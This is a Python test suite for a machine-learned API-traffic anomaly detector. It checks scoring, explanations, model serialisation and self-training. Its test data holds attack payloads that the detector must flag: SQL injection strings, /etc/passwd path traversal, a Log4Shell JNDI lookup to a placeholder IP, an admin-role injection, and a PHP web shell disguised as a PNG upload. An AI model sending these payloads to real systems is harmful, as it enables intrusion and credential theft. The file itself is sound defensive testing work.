from __future__ import annotations

import random
import sys
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import models
from models.artifact import from_bytes, to_bytes
from models.calls import read_calls
from models.features import FEATURES, feature_matrix
from models.observe import observe
from tests import forms

sys.path.insert(0, str(Path(__file__).parent))
from calls_by_hand import batch, call, shop

LINEAR = models.ModelConfig(network="linear")
ATTACKS = {
    "q": call(path="/search", query="q=lamp'+UNION+SELECT+password+FROM+users--&page=2"),
    "path": call(path="/users/..%2f..%2fetc%2fpasswd"),
    "endpoint": call(path="/admin/backup.zip"),
    "role": call(method="POST", path="/orders", request_body=b'{"sku": "A-3", "quantity": 1, "note": "door", "role": "admin"}', status=201, response_bytes=60),
    "Accept": call(path="/users/77", headers={"Accept": "${jndi:ldap://203.0.113.9/a}"}, response_bytes=200),
    "response size": call(path="/search", query="q=lamp&page=3", response_bytes=4_000_000),
}


@pytest.fixture(scope="module")
def model() -> models.Model:
    return models.learn([batch(shop(1500))], LINEAR)


def test_features_are_finite_and_have_the_stated_shape(model: models.Model) -> None:
    calls = batch([*shop(20), call(status=None, response_bytes=None, duration=None, ttfb=None), call(method=None, path=None, host=None)])
    matrix = feature_matrix(observe(read_calls(calls), model.tree, model.bigrams).counts)
    assert matrix.shape == (22, len(FEATURES))
    assert matrix.dtype == np.float32
    assert np.isfinite(matrix[:20]).all()
    scores = model.score(calls)
    assert scores.score.dtype == scores.p.dtype == np.float32
    assert np.isfinite(scores.score).all()
    assert ((scores.p > 0) & (scores.p <= 1)).all()


def test_normal_calls_of_another_day_hardly_ever_raise_anything(model: models.Model) -> None:
    # Two of them ask for a user with a one-digit number, which 1500 training calls never did.
    assert len(model.observe(batch(shop(2000, seed=2)))[2]) <= 2


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attack_is_found_and_explained_by_the_field_that_holds_it(model: models.Model, name: str) -> None:
    scores, p, found = model.observe(batch([*shop(10, seed=3), ATTACKS[name]]))
    assert p[10] < 1e-3
    assert scores[10] == scores.max()
    reasons = model.explain(batch([ATTACKS[name]]), [0])[0]
    assert any(name in reason.name for reason in reasons), reasons
    assert all(reason.sentence and reason.seen and reason.usual for reason in reasons)
    for anomaly in found:
        assert anomaly.row == 10
        assert anomaly.evidence[0].pcap_file == "x.pcap"


def test_an_empty_batch_has_no_scores(model: models.Model) -> None:
    scores, p, found = model.observe(batch([]))
    assert (len(scores), len(p), found) == (0, 0, [])


def test_learning_from_nothing_says_what_is_needed() -> None:
    with pytest.raises(models.ModelError, match="no API call"):
        models.learn([batch([])])


@pytest.mark.parametrize("count", [1, 2, 5, 30])
def test_a_few_calls_are_enough_to_learn_something(count: int) -> None:
    model = models.learn([batch(shop(count))], LINEAR)
    assert np.isfinite(model.score(batch(shop(5))).score).all()


def test_the_same_calls_in_any_order_make_the_same_model() -> None:
    distinct = {(row["path"], row["query"], row.get("request_body")): row for row in shop(300)}
    calls = list(distinct.values())
    one = models.learn([batch(calls)], LINEAR)
    two = models.learn([batch(calls[200:]), batch(calls[:200])], LINEAR)
    assert to_bytes(one) == to_bytes(two)


def test_torch_learns_the_same_network_from_the_same_seed() -> None:
    config = models.ModelConfig(steps=30, folds=2)
    calls = batch(shop(300))
    one, two = models.learn([calls], config), models.learn([calls], config)
    assert to_bytes(one) == to_bytes(two)
    assert to_bytes(models.learn([calls], replace(config, seed=2))) != to_bytes(one)


def test_a_saved_model_scores_and_explains_as_it_did(model: models.Model, tmp_path: Path) -> None:
    model.save(tmp_path / "shop.model")
    again = models.load(tmp_path / "shop.model")
    calls = batch([*shop(30, seed=4), *ATTACKS.values()])
    assert (again.score(calls).score == model.score(calls).score).all()
    assert again.explain(calls, [30, 31]) == model.explain(calls, [30, 31])
    assert again.trained_on == model.trained_on
    assert again.trained_on["calls"] == 1500


def test_a_missing_model_file_says_how_to_make_one(tmp_path: Path) -> None:
    with pytest.raises(models.ModelError, match=r"none\.model.*api-sensor learn"):
        models.load(tmp_path / "none.model")


@pytest.fixture(scope="module")
def octets() -> bytes:
    return to_bytes(models.learn([batch(shop(40))], models.ModelConfig(network="linear", folds=2)))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(at=st.floats(0, 1), bit=st.integers(0, 7), cut=st.booleans())
def test_a_damaged_model_file_is_refused_whatever_the_damage(octets: bytes, at: float, bit: int, cut: bool) -> None:
    place = min(int(at**4 * len(octets)), len(octets) - 1)
    damaged = octets[:place] if cut else octets[:place] + bytes([octets[place] ^ (1 << bit)]) + octets[place + 1 :]
    with pytest.raises(models.ModelError):
        from_bytes(damaged)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=st.text(max_size=60), query=st.text(max_size=80), body=st.binary(max_size=200), kind=st.sampled_from(["application/json", "application/x-www-form-urlencoded", None]), head=st.binary(max_size=200))
def test_any_octets_are_scored(model: models.Model, path: str, query: str, body: bytes, kind: str | None, head: bytes) -> None:
    path = path.encode("utf-8", "replace").decode()
    row = call(path=path, query=query.encode("utf-8", "replace").decode(), request_body=body, request_type=kind)
    row["request_head"] = head
    scores = model.score(batch([row]))
    assert np.isfinite(scores.score).all()
    model.explain(batch([row]), [0])


def test_attacks_in_the_capture_do_not_teach_self_training() -> None:
    calls = shop(1900)
    bad = [call(3000 + i, path="/search", query=f"q={i}'+OR+sleep({i})%23&page=1") for i in range(60)]
    everything = batch([*calls, *bad])
    model = models.self_train([everything])
    scores = model.score(everything)
    assert np.median(scores.score[1900:]) > np.quantile(scores.score[:1900], 0.999)
    assert (scores.p[:1900] <= 1e-4).sum() <= 1
    assert (scores.p[1900:] <= 1e-4).mean() > 0.9


def odd_heads() -> list[dict[str, object]]:
    """Calls whose header lines come again, come twice in one head, are many, are long, or are no headers at all."""
    calls = [*shop(40, seed=8), *ATTACKS.values()]
    for number in range(30):
        cookies = "; ".join(f"c{k}={number % 3}{k}" for k in range(number * 9))
        row = call(number, path=f"/users/{number}", headers={"Cookie": cookies, "X-Once": "'" * number, "Accept": "application/json"})
        lines = row["request_head"].split(b"\r\n")
        if number % 5 == 1:
            lines[4:4] = [lines[4]] * 2
        if number % 5 == 2:
            lines[4:4] = [b"X-%d: many" % k for k in range(number * 4)]
        if number % 5 == 3:
            lines[3:3] = [b"X-Long: " + b"ab" * 700 * (number % 4), b"no colon here", b": nameless", b"Cookie: c1=2; c1=3"]
        row["request_head"] = b"\r\n".join(lines)[: len(row["request_head"]) * 40]
        calls.append(row)
    return calls


def test_a_call_scores_the_same_whatever_stands_beside_or_came_before_it(model: models.Model) -> None:
    calls = odd_heads()
    whole = model.score(batch(calls))
    for size in (1, 7, 64):
        parts = [model.score(batch(calls[at : at + size])) for at in range(0, len(calls), size)]
        assert np.array_equal(np.concatenate([part.score for part in parts]), whole.score)
        assert np.array_equal(np.concatenate([part.p for part in parts]), whole.p)
    backwards = model.score(batch(calls[::-1]))
    assert np.array_equal(backwards.score[::-1], whole.score)


def test_what_is_remembered_of_header_lines_changes_no_score(model: models.Model) -> None:
    calls = batch(odd_heads())
    model.score(calls)
    nats, _, _ = model.scorer.measure(calls)  # reads every line of every call
    assert np.allclose(model.score(calls).score, np.sqrt(np.square(nats).sum(1)), rtol=1e-5)


def test_more_headers_than_memory_holds_change_no_score(model: models.Model) -> None:
    flood = batch([call(n, path=f"/users/{n}", headers={"X-Request-Id": f"{n * 7919:x}", "Accept": "application/json"}) for n in range(12_000)])
    calls = batch(odd_heads())
    before = model.score(calls).score
    # The first time its lines are remembered, the second its blocks, which is more than there is room for; the third they are known, or known no more.
    once, again, third = model.score(flood).score, model.score(flood).score, model.score(flood).score
    assert np.array_equal(once, again)
    assert np.array_equal(once, third)
    assert np.array_equal(before, model.score(calls).score)


def test_headers_come_to_the_same_from_memory_of_blocks_and_of_lines(model: models.Model) -> None:
    calls = batch(odd_heads())
    first, second, third = (model.score(calls) for _ in range(3))
    for later in (second, third):
        assert np.array_equal(first.score, later.score)
        assert np.array_equal(first.p, later.p)
    twice = batch(odd_heads() * 2)  # a block is learned in the middle of a batch
    fresh = from_bytes(to_bytes(model)).score(twice)
    assert np.array_equal(fresh.score, np.concatenate([first.score, first.score]))


def test_paths_that_begin_alike_are_followed_to_their_own_end(model: models.Model) -> None:
    paths = ["/users/1", "/users/2", "/users//2", "//users/2", "/users/", "/users", "/", "", "/users/1/", "/search", "/search/", "/a/" * 30, "/users/" + "x/" * 40 + "y"]
    rows = [call(number, path=path) for number, path in enumerate(paths)]
    alone = [float(from_bytes(to_bytes(model)).score(batch([row])).score[0]) for row in rows]
    assert model.score(batch(rows)).score.tolist() == alone
    assert model.score(batch(rows[::-1])).score.tolist() == alone[::-1]


def test_both_forms_score_alike() -> None:
    calls = batch(odd_heads())
    expected = models.learn([batch(shop(150))], LINEAR).score(calls)
    twin = forms.module("models.model", "python")
    scores = twin.learn([batch(shop(150))], twin.ModelConfig(network="linear")).score(calls)
    assert np.allclose(scores.score, expected.score, rtol=1e-4, atol=1e-4)


def test_a_request_that_comes_all_through_a_capture_is_no_anomaly_however_unlike_the_rest() -> None:
    calls = shop(6000)
    for number in range(0, 6000, 20):
        calls[number] = call(number, path="/health", headers={"Accept": "*/*"}, user_agent="probe/2", response_type="text/plain", response_bytes=3)
    everything = batch(calls)
    model = models.self_train([everything])
    assert not (model.score(everything).p <= 1e-4).any()


def test_an_attack_repeated_in_one_part_of_a_capture_does_not_teach() -> None:
    calls = shop(3000)
    calls[1500:1530] = [call(1500 + k, path="/search", query="q=1'+OR+sleep(9)%23&page=1") for k in range(30)]
    everything = batch(calls)
    assert (models.self_train([everything]).score(everything).p[1500:1530] <= 1e-4).all()


def uploads(count: int, seed: int = 1) -> list[dict[str, object]]:
    pick = random.Random(seed)
    return [call(5000 + n, method="PUT", path="/avatar", request_body=b"\x89PNG\r\n\x1a\n\0\0" + pick.randbytes(pick.randint(2000, 4000)), request_type="image/png", status=204, response_bytes=0) for n in range(count)]


def test_a_body_that_is_no_text_is_not_judged_as_text() -> None:
    model = models.learn([batch([*shop(1500), *uploads(40)])], LINEAR)
    assert (model.score(batch(uploads(20, seed=2))).p > 1e-4).all()


def test_a_script_sent_where_pictures_are_usual_is_found() -> None:
    model = models.learn([batch([*shop(1500), *uploads(40)])], LINEAR)
    script = call(1, method="PUT", path="/avatar", request_body=b"<?php system($_GET['c']); ?>" * 90, request_type="image/png", status=204, response_bytes=0)
    scores = model.score(batch([*uploads(20, seed=2), script]))
    assert scores.p[20] < 1e-3
    assert scores.score[20] == scores.score.max()
